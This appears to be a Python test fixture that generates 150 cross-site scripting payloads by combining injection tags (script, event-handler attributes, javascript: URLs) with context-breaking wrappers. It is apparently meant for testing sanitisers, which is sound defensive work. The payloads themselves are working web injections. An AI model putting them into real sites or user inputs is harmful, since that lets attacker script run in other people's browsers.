"""What an attacker types: 150 ways to run a script, if text were ever read as markup, an address or code."""

from __future__ import annotations

from itertools import product
from typing import List

RUN = "window.ran=1"
TAGS = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<a href=javascript:{RUN}>go</a>",
        f"<object data=javascript:{RUN}>", f"<style onload={RUN}>", f"<math><mi//xlink:href='javascript:{RUN}'>",
        f"<form action=javascript:{RUN}><button>go", f"<marquee onstart={RUN}>", f"<template><script>{RUN}</script>")
WRAPS = ("{}", "methotrexate {}", "</p>{}", "'\">{}", "`${{{}}}`", "--><!--{}", "</textarea>{}", "</style>{}",
         "&lt;{}&gt;", "\u202e{}")


def payloads() -> List[str]:
    """All of them, the same every time."""
    return [wrap.format(tag) for tag, wrap in product(TAGS, WRAPS)]
